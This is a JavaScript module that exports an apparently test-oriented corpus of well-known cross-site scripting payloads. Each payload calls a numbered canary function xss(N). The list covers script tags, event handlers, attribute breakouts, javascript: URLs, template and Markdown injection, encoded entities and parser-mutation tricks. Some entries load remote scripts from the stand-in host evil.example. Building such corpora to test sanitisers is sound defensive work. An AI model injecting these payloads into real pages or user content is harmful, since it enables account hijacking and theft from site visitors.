// Ways in which words become code, of the kinds that are well known. Each calls `xss(N)`, N being its place in the list, if a browser obeys it.

const SHAPES = [
  // Scripts
  '<script>xss(N)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>xss(N)</scr</script>ipt>', '</title><script>xss(N)</script>', '</style><script>xss(N)</script>',
  '</textarea><script>xss(N)</script>', '</noscript><script>xss(N)</script>', '</template><script>xss(N)</script>', '<script type="module">xss(N)</script>', '<script\t>xss(N)</script\n>',
  '<script>/*', '<!--<script>xss(N)//-->', '--><script>xss(N)</script>', '<![CDATA[<script>xss(N)</script>]]>', ']]><script>xss(N)</script>', ']]>]]&gt;<x:script xmlns:x="http://www.w3.org/1999/xhtml">xss(N)</x:script>',
  // Handlers
  '<img src=x onerror=xss(N)>', '<img src=x onerror="xss(N)"//', '<IMG """><SCRIPT>xss(N)</SCRIPT>">', '<img/src="x"/onerror=xss(N)>', '<img src=1 oNeRrOr=xss(N)>', '<image src=x onerror=xss(N)>',
  '<svg onload=xss(N)>', '<svg/onload=xss(N)//', '<svg><script>xss(N)</script></svg>', '<svg><animate onbegin=xss(N) attributeName=x dur=1s>', '<svg><set onbegin=xss(N)>', '<svg><a xlink:href="javascript:xss(N)"><text y=20>go</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=xss(N) /></svg>#x">', '<body onload=xss(N)>', '<body onpageshow=xss(N)>', '<input autofocus onfocus=xss(N)>', '<select autofocus onfocus=xss(N)>',
  '<video><source onerror=xss(N)></video>', '<audio src=x onerror=xss(N)>', '<details open ontoggle=xss(N)>', '<marquee onstart=xss(N)>', '<p onmouseover=xss(N)>over</p>', '<p style=animation-name:x onanimationstart=xss(N)>', '<xss id=x tabindex=1 onfocus=xss(N)></xss>',
  '<object data="javascript:xss(N)">', '<embed src="javascript:xss(N)">', '<div popover id=p onbeforetoggle=xss(N)>', '<link rel=stylesheet href=x onerror=xss(N)>', '<dialog open onclose=xss(N)><form method=dialog><button>',
  // Out of an attribute, by each quotation mark and none
  '" onmouseover="xss(N)', "' onmouseover='xss(N)", '` onmouseover=`xss(N)', '" autofocus onfocus=xss(N) x="', "' autofocus onfocus=xss(N) x='", '"><script>xss(N)</script>', "'><script>xss(N)</script>", '`><script>xss(N)</script>', '"/><img src=x onerror=xss(N)>',
  '" style="background:url(javascript:xss(N))', ' onload=xss(N) ', '\\"><script>xss(N)</script>', '&quot; onload=&quot;xss(N)', '"\u00a0onload=xss(N)\u00a0"',
  // Addresses
  'javascript:xss(N)', 'JaVaScRiPt:xss(N)', ' javascript:xss(N)', 'java\tscript:xss(N)', 'java\nscript:xss(N)', '\u0001javascript:xss(N)', 'javascript://evil.example/%0Axss(N)', 'javascript&colon;xss(N)', '&#106;avascript:xss(N)', 'vbscript:xss(N)',
  'data:text/html,<script>xss(N)</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="xss(N)"/>', 'blob:https://evil.example/x', 'https://evil.example/"onerror="xss(N)', "https://evil.example/'onerror='xss(N)",
  'https://evil.example/?<script>xss(N)</script>', 'https://evil.example/x.mp3#t=1"><img src=x onerror=xss(N)>', '//evil.example/x.js', 'https:javascript:xss(N)', 'feed:javascript:xss(N)', 'view-source:javascript:xss(N)',
  // Templates and formatting
  '{{ site.title }}{{ 7 * 7 }}', '{% include "base.html" %}{{ "<script>xss(N)</script>" | safe }}', '{{constructor.constructor("xss(N)")()}}', '${xss(N)}', '<%= xss(N) %>', '#{xss(N)}', '[[${xss(N)}]]', '{# comment #}{% raw %}<script>xss(N)</script>{% endraw %}',
  // Markdown
  '[click](javascript:xss(N))', '[click](<javascript:xss(N)>)', '![x](x" onerror="xss(N))', '![x](javascript:xss(N))', '[a]: javascript:xss(N)\n[a]', '<javascript:xss(N)>', '<https://evil.example/" onclick="xss(N)>', '[click](data:text/html,<script>xss(N)</script>)', '`</code><script>xss(N)</script>`',
  '\n\n<script>xss(N)</script>\n\n', '\n\n    <script>xss(N)</script>\n\n', '\n# Heading {#x onclick=xss(N)}\n', '\n> quote\n<script>xss(N)</script>\n', '\n|a|b|\n|-|-|\n|<script>xss(N)</script>|x|\n', '[^1]\n\n[^1]: <script>xss(N)</script>',
  // Ends of what a post is made of
  '\n---\ntitle: taken over\nstatus: published\n---\n<script>xss(N)</script>', '\n```\n\n<script>xss(N)</script>\n\n```source\nlink: javascript:xss(N)\n', '\n~~~\n<script>xss(N)</script>\n~~~\n', '\n## Another insight {#another}\n\n<script>xss(N)</script>\n', '"\nlink: "javascript:xss(N)', '!!js/function "xss(N)"', '*anchor &anchor <script>xss(N)</script>',
  // Entities, once and twice
  '&lt;script&gt;xss(N)&lt;/script&gt;', '&amp;lt;script&amp;gt;xss(N)&amp;lt;/script&amp;gt;', '&#60;script&#62;xss(N)&#60;/script&#62;', '&#x3C;img src=x onerror=xss(N)&#x3E;', '&amp;#60;script&amp;#62;xss(N)&amp;#60;/script&amp;#62;', '\\u003cscript\\u003exss(N)\\u003c/script\\u003e', '%3Cscript%3Exss(N)%3C/script%3E', '+ADw-script+AD4-xss(N)+ADw-/script+AD4-', '\uff1cscript\uff1exss(N)\uff1c/script\uff1e',
  // JSON and scripts that hold it
  '</script><script>xss(N)</script>', '</script ><img src=x onerror=xss(N)>', '"}</script><svg onload=xss(N)>', '<!--<script>', '\u2028xss(N)\u2029', '","url":"javascript:xss(N)","x":"', '\\"},xss(N),{\\"',
  // Frames, bases, forms, refreshes
  '<iframe src="javascript:xss(N)"></iframe>', '<iframe srcdoc="<script>parent.xss(N)</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.xss(N)&gt;">', '<meta http-equiv="refresh" content="0;url=javascript:xss(N)">', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
  '<form action="javascript:xss(N)"><button>Send</button></form>', '<form><button formaction="javascript:xss(N)">Send</button></form>', '<isindex type=image src=1 onerror=xss(N)>', '<link rel=import href="data:text/html,<script>xss(N)</script>">', '<portal src="https://evil.example/">', '<a href="https://evil.example/" target=_self autofocus>x</a>', '<math><maction actiontype="statusline" xlink:href="javascript:xss(N)">x</maction></math>',
  // Styles
  '<style>@import "https://evil.example/x.css";</style>', '<div style="background:url(https://evil.example/x.png)">', '<style>*{background:url("javascript:xss(N)")}</style>', '</style><svg onload=xss(N)>', '<link rel=stylesheet href=https://evil.example/x.css>', 'x;background:url(//evil.example/x)', 'expression(xss(N))',
  // Shapes that parsers mend into something else
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(N)&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=xss(N)>">', '<noscript><p title="</noscript><img src=x onerror=xss(N)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(N)>', '<table><td background="javascript:xss(N)">', '<a<b onmouseover=xss(N)>x', '<img src=x onerror\x0c=\x0cxss(N)>', '<<script>xss(N)//<</script>', '<svg><![CDATA[><image xlink:href=x onerror=xss(N)>]]></svg>', '<select><style></select><img src=x onerror=xss(N)></style>',
  // Characters that mislead
  '\u0000<script>xss(N)</script>', '<scr\u0000ipt>xss(N)</scr\u0000ipt>', '\u202e>tpircs/<)N(ssx>tpircs<', '\u2066<script>xss(N)</script>\u2069', '\u200b<script>xss(N)</script>\ufeff', '\ufffe\uffff<script>xss(N)</script>', '\u001b]8;;javascript:xss(N)\u0007x', '\ud800<script>xss(N)</script>',
];

/** The list, each with its number. */
export const PAYLOADS = SHAPES.map((shape, n) => shape.replaceAll('(N)', `(${n})`));
